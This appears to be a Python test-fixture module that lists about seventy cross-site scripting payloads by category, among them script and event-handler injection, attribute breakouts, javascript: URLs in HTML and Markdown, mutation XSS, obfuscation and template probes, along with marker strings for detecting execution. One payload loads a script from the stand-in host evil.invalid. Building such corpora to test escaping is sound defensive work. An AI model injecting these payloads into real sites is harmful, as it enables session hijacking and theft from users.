"""A corpus of hostile strings: each one, if a page ever ran it, would set ``window.__xss``, set the
title to "XSS", open an alert, or load a script from elsewhere.

Grouped as: script and tag injection, event handlers, attribute breakouts, dangerous URLs in HTML and
in Markdown (inline, reference-style, autolinks, images), breakouts of ``<script type=application/json>``
and other raw-text elements, mutation XSS, entity and Unicode obfuscation, CSS, embedding
(``iframe``/``object``/``embed``/``base``), SVG/MathML, and template syntax of Django and JavaScript.
Multi-line ones (reference-style links, code fences) come last, so that when the whole corpus is one
Markdown document an open fence does not swallow the rest.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # Script and tag injection.
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.invalid/x.js></script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"document.title='XSS'\">",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=\"window.__xss=1\"></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>m</marquee>",
    "<x-tag onclick=window.__xss=1>custom</x-tag>",
    "<div onmouseover=\"window.__xss=1\">hover</div>",
    # Attribute and element breakouts (escaping must hold inside quotes and raw-text elements).
    "\"><script>window.__xss=1</script>",
    "'><img src=x onerror=window.__xss=1>",
    "\" autofocus onfocus=\"window.__xss=1",
    "' autofocus onfocus='window.__xss=1",
    "</script><script>window.__xss=1</script>",
    "</script><img src=x onerror=window.__xss=1>",
    "<!--</script><script>window.__xss=1</script>-->",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    # Dangerous URLs in HTML.
    "<a href=\"javascript:window.__xss=1\">js link</a>",
    "<a href=\"jav&#x09;ascript:window.__xss=1\">tab link</a>",
    "<a href=\"vbscript:msgbox(1)\">vb link</a>",
    "<iframe src=\"javascript:parent.__xss=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.__xss=1</script>\"></iframe>",
    "<object data=\"javascript:window.__xss=1\"></object>",
    "<embed src=\"javascript:window.__xss=1\">",
    "<base href=\"javascript:window.__xss=1//\">",
    "<form action=\"javascript:window.__xss=1\"><button>go</button></form>",
    "<button formaction=\"javascript:window.__xss=1\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
    "<link rel=stylesheet href=\"javascript:window.__xss=1\">",
    # Dangerous URLs in Markdown.
    "[md link](javascript:window.__xss=1)",
    "[md caps](JaVaScRiPt:window.__xss=1)",
    "[md entity](&#106;avascript:window.__xss=1)",
    "[md colon](javascript&#58;window.__xss=1)",
    "[md data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    "![md image](javascript:window.__xss=1)",
    "![md image onerror](x\" onerror=\"window.__xss=1)",
    "[md title](https://example.com \"t\\\" onmouseover=\\\"window.__xss=1\")",
    "[md quote](https://example.com/\" onmouseover=\"window.__xss=1)",
    "<javascript:window.__xss=1>",
    "<https://example.com/\" onmouseover=\"window.__xss=1>",
    "javascript:window.__xss=1",
    # Mutation XSS: markup that changes meaning when parsed twice.
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "<!--<img src=\"--><img src=x onerror=window.__xss=1//\">",
    "<svg><a xlink:href=\"javascript:window.__xss=1\"><text x=20 y=20>svg link</text></a></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    # Entity and Unicode obfuscation.
    "<img src=x onerror=&#119;indow.__xss=1>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u202e<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1\u2028>",
    # CSS.
    "<div style=\"background:url(javascript:window.__xss=1)\">css url</div>",
    "<p style=\"x:expression(window.__xss=1)\">css expression</p>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    # Template syntax: shown as written, never evaluated.
    "{{7*7}} {{ request.user.password }}",
    "{% debug %}{% csrf_token %}",
    "${window.__xss=1} #{7*7}",
    # Multi-line: reference-style links and code fences.
    "[ref link][evil]\n\n[evil]: javascript:window.__xss=1",
    "```\n</code></pre><script>window.__xss=1</script>\n```",
    "```\"><script>window.__xss=1</script>\ncode\n```",
)

# What a payload leaves behind if it ran (checked in the page), or if it survived into markup
# (checked in the HTML).
MARKERS = ("__xss", "XSS", "alert(1)", "evil.invalid", "msgbox")


def short(payload: str, limit: int = 150) -> str:
    """The payload cut to fit a short field (usernames take 150 characters, labels 200)."""
    return payload[:limit]
